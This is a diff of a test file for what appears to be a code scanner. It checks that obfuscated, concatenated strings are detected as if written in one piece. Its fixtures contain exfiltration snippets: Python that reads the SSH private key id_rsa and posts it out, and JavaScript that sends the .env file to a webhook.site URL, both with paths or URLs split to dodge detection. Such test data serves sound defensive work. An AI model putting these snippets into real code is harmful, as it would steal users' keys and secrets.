@@ -63,13 +63,8 @@ it('tells what a change brings, wherever in the file it stands', async () => {
 });
 
 it.each([
-  [
-    'a.py',
-    "n = [\n    'a',\n]\na = open(os.path.join(home, '.' + 'ssh', 'id_' + 'rsa'))\nrequests.post(url, data=a)\n",
-    '.ssh',
-    4,
-  ],
-  ['a.js', 'f([\n  "htt",\n  "ps://webhook.site/1",\n].join(""), fs.readFileSync(".env"));\n', 'https://', 1],
+  ['a.py', "n = 1\na = open(os.path.join(home, '.' + 'ssh', 'id_' + 'rsa'))\nrequests.post(url, data=a)\n", '.ssh', 2],
+  ['a.js', 'f(["htt", "ps://webhook.site/1"].join(""), fs.readFileSync(".env"));\n', 'https://', 1],
 ])(
   'judges what is put together in %s as if it were written in one piece, in its own line',
   async (path, text, words, line) => {
